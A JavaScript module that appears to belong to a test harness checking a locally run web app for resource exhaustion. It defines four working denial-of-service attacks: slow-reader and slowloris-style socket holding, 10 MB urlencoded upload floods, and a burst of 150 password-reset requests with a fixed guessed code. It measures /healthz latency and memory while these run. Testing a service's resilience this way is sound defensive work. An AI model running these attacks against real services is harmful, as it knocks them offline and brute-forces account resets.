import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { counted, many } from './accounts.mjs'
import { sendPhoto } from './leaks.mjs'

/** @typedef {import('./victim.mjs').Victim} Victim */

/** Attacks with which a few connections slow down everybody else. @type {Record<string, (victim: Victim) => Promise<string>>} */
export const loadAttacks = {
  '80 slow readers of one photo': async (victim) => {
    const config = await victim.call('GET', '/config')
    const answer = await sendPhoto(victim, await largePhoto(), config.body.imageUploadPreset)
    const { pathname } = new URL((await answer.json()).secure_url)
    return observed(victim, 12_000, async () => {
      const sockets = Array.from({ length: 80 }, () => {
        const socket = opened(victim)
        socket.pause()
        socket.write(`GET ${pathname} HTTP/1.1\r\nhost: x\r\n\r\n`.repeat(1))
        return socket
      })
      await pause(10_000)
      for (const socket of sockets) socket.destroy()
      return '80 held'
    })
  },

  'four urlencoded uploads of 10 MB': async (victim) => {
    const body = 'a=b&'.repeat(2_500_000)
    return observed(victim, 60_000, async () => {
      const statuses = await many(4, 4, () =>
        fetch(`${victim.origin}/api/images/upload`, {
          method: 'POST',
          body,
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
        }).catch(() => ({ status: 0 })),
      )
      return counted(statuses)
    })
  },

  '150 password resets at once, and a login': async (victim) => {
    const { email } = await victim.signUp('sender')
    return observed(victim, 60_000, async () => {
      const resets = many(150, 150, (n) => {
        const body = {
          phone_number: `0203${String(n).padStart(6, '0')}`,
          code: '123456',
          new_password: 'a new long one',
        }
        return victim.call('POST', '/password/reset', { body, headers: victim.elsewhere() })
      })
      await pause(100)
      const body = { email, password: victim.password }
      const login = await victim.call('POST', '/login', { body, headers: victim.elsewhere() })
      return `resets ${counted(await resets)}; the login ${login.status}`
    })
  },

  '64 slow uploads, and a normal one': async (victim) => {
    const config = await victim.call('GET', '/config')
    return observed(victim, 60_000, async () => {
      const sockets = Array.from({ length: 64 }, () => {
        const socket = opened(victim)
        socket.write(
          'POST /api/images/upload HTTP/1.1\r\nhost: x\r\nx-forwarded-for: 203.0.113.7\r\n' +
            'content-type: multipart/form-data; boundary=x\r\ncontent-length: 5000000\r\n\r\n' +
            '--x\r\ncontent-disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n',
        )
        return socket
      })
      const dribble = setInterval(() => {
        for (const socket of sockets) if (!socket.destroyed) socket.write('x')
      }, 500)
      await pause(3_000)
      const normal = await sendPhoto(victim, await largePhoto(), config.body.imageUploadPreset)
      clearInterval(dribble)
      for (const socket of sockets) socket.destroy()
      return `the normal upload ${normal.status}`
    })
  },
}

/** @param {Victim} victim */
function opened({ port }) {
  const socket = connect(port, '127.0.0.1')
  socket.on('error', () => {})
  return socket
}

/** Nine megabytes that decode as a photo. */
async function largePhoto() {
  const { default: sharp } = await import('sharp')
  const side = 3_000
  const noise = Buffer.alloc(side * side * 3)
  for (let at = 0; at < noise.length; at++) noise[at] = (at * 2_654_435_761) >>> 24
  return sharp(noise, { raw: { width: side, height: side, channels: 3 } })
    .jpeg({ quality: 80 })
    .toBuffer()
}

/** Runs the attack; returns its outcome, the slowest response of `/healthz` and the most memory. @param {Victim} victim @param {number} most @param {() => Promise<string>} attack */
async function observed(victim, most, attack) {
  let slowest = 0
  let memory = victim.memory()
  const before = memory
  const done = new AbortController()
  const watch = (async () => {
    while (!done.signal.aborted) {
      const began = performance.now()
      await fetch(`${victim.origin}/healthz`).catch(() => undefined)
      slowest = Math.max(slowest, performance.now() - began)
      memory = Math.max(memory, victim.memory())
      await pause(20)
    }
  })()
  const outcome = await Promise.race([attack(), pause(most, 'not over in time', { ref: false })])
  done.abort()
  await watch
  return `${outcome}; /healthz silent for ${Math.round(slowest)} ms at most, ${Math.round(before)} → ${Math.round(memory)} MiB`
}
